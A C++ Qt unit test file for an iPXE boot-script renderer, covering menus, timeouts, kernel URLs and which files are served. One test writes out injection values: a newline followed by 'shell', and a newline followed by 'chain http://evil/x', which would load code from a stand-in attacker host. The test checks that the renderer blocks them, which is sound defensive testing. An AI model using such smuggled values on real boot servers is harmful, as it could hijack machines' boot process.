// SPDX-License-Identifier: GPL-3.0-or-later
// iPXE scripts rendered from a site's menu: iPXE's menu and timeout, the
// entries' kernels and initrds as URLs over HTTP or TFTP, variables iPXE
// fills in itself, no way for a value to start a command of its own, and
// where ConfigFiles serves them.
#include "boot/configfiles.h"
#include "boot/configname.h"
#include "boot/ipxescript.h"

#include <QTest>

using namespace Qt::StringLiterals;
using namespace Boot;
using Site::Menu;
using Site::MenuEntry;

namespace {

Menu installMenu()
{
    Menu menu;
    menu.name = u"install"_s;
    menu.title = u"Rack install"_s;
    menu.timeout = 10;
    menu.defaultEntry = u"debian"_s;
    menu.entries = {
        {u"rescue"_s, u"Rescue shell"_s, u"d-i/linux"_s, {u"d-i/initrd.gz"_s}, u"rescue/enable=true"_s},
        {u"debian"_s, u"Debian 13"_s, u"d-i/linux"_s, {u"d-i/initrd.gz"_s, u"extra/fw.cpio.gz"_s},
         u"auto=true url=http://{server}/answers/preseed.cfg hostname={hostname} BOOTIF={mac}"_s},
    };
    return menu;
}

Machine knownMachine()
{
    Machine machine;
    machine.server = QHostAddress(u"10.0.0.1"_s);
    machine.hostname = u"node7"_s;
    machine.mac = *Net::MacAddress::parse(u"52:54:00:12:34:56");
    return machine;
}

} // namespace

class TestIpxeScript : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void rendersAMenu()
    {
        const QByteArray script = IpxeScript::render(installMenu(), knownMachine(), true);
        QCOMPARE(script, QByteArray("#!ipxe\n"
                                    "# Rackside: menu install for 52:54:00:12:34:56\n"
                                    "# Generated from the site on each request: edit the site, not this file.\n"
                                    "menu Rack install\n"
                                    "item entry-rescue Rescue shell\n"
                                    "item entry-debian Debian 13\n"
                                    "choose --default entry-debian --timeout 10000 target && goto ${target} || exit 1\n"
                                    "\n:entry-rescue\n"
                                    "kernel http://10.0.0.1/d-i/linux initrd=initrd.gz rescue/enable=true || goto rackside-failed\n"
                                    "initrd http://10.0.0.1/d-i/initrd.gz || goto rackside-failed\n"
                                    "boot || goto rackside-failed\n"
                                    "\n:entry-debian\n"
                                    "kernel http://10.0.0.1/d-i/linux initrd=initrd.gz initrd=fw.cpio.gz auto=true "
                                    "url=http://10.0.0.1/answers/preseed.cfg hostname=node7 BOOTIF=52:54:00:12:34:56 || goto rackside-failed\n"
                                    "initrd http://10.0.0.1/d-i/initrd.gz || goto rackside-failed\n"
                                    "initrd http://10.0.0.1/extra/fw.cpio.gz || goto rackside-failed\n"
                                    "boot || goto rackside-failed\n"
                                    "\n:rackside-failed\necho Rackside: this entry did not boot; see the console's timeline\nsleep 10\nexit 1\n"));
    }

    void timeouts()
    {
        Menu menu = installMenu();
        menu.timeout = 0; // at once: no menu at all
        QByteArray script = IpxeScript::render(menu, knownMachine(), false);
        QVERIFY(script.contains("\ngoto entry-debian\n"));
        QVERIFY(!script.contains("choose"));
        QVERIFY(script.contains("kernel tftp://10.0.0.1/d-i/linux"));
        menu.timeout = Menu::waitForever;
        script = IpxeScript::render(menu, knownMachine(), false);
        QVERIFY(script.contains("choose --default entry-debian target && goto ${target} || exit 1\n"));
        // An entry called "failed" jumps nowhere of ours; a port that is not 80 is in the URLs.
        menu.entries[0].name = u"rackside-failed"_s;
        script = IpxeScript::render(menu, knownMachine(), true, 8080);
        QCOMPARE(script.count("\n:rackside-failed\n"), 1);
        QVERIFY(script.contains("kernel http://10.0.0.1:8080/d-i/linux"));
    }

    void unknownValuesAreIpxes()
    {
        const QByteArray script = IpxeScript::render(installMenu(), Machine(), true);
        QVERIFY2(script.contains("kernel http://${next-server}/d-i/linux"), script.constData());
        QVERIFY(script.contains("url=http://${next-server}/answers/preseed.cfg hostname= BOOTIF=${mac}"));
    }

    void noValueStartsACommand()
    {
        Menu menu = installMenu();
        menu.title = u"x\nshell"_s;
        menu.entries[0].arguments = u"a\nchain http://evil/x"_s;
        menu.entries[0].kernel = u"k\nshell"_s;
        const QByteArray script = IpxeScript::render(menu, knownMachine(), true);
        QVERIFY(!script.contains("\nshell"));
        QVERIFY(!script.contains("\nchain"));
        QVERIFY(script.contains("menu x shell\n"));
    }

    void servedAsIpxeFolderScripts()
    {
        QCOMPARE(ConfigName::parse(u"boot/ipxe/menu.ipxe"_s).loader, ConfigName::Loader::Ipxe);
        QCOMPARE(ConfigName::parse(u"ipxe/anything.ipxe"_s).loader, ConfigName::Loader::Ipxe);
        QCOMPARE(ConfigName::parse(u"scripts/menu.ipxe"_s).loader, ConfigName::Loader::None);
        QCOMPARE(ConfigName::parse(u"boot/ipxe/undionly.kpxe"_s).loader, ConfigName::Loader::None);

        Site::Document site;
        site.serverAddress = QHostAddress(u"10.0.0.1"_s);
        site.menus = {installMenu()};
        site.kernelsOverHttp = true;
        Site::Host installed;
        installed.mac = *Net::MacAddress::parse(u"52:54:00:00:00:09");
        installed.hostname = u"done"_s;
        installed.nextBoot = Site::NextBoot::LocalDisk;
        site.hosts = {installed};
        const ConfigFiles files(site, nullptr);
        OpenedFile menu = files.open(u"boot/ipxe/menu.ipxe"_s, Requester{{}, QHostAddress(u"10.0.0.50"_s)});
        QVERIFY(menu.ok());
        QVERIFY(menu.device->readAll().contains("kernel http://10.0.0.1/d-i/linux"));
        OpenedFile local = files.open(u"boot/ipxe/menu.ipxe"_s, Requester{installed.mac, QHostAddress(u"10.0.0.51"_s)});
        QVERIFY(local.ok());
        QVERIFY(local.device->readAll().contains("sanboot --no-describe --drive 0x80"));
    }
};

QTEST_GUILESS_MAIN(TestIpxeScript)
#include "tst_ipxescript.moc"
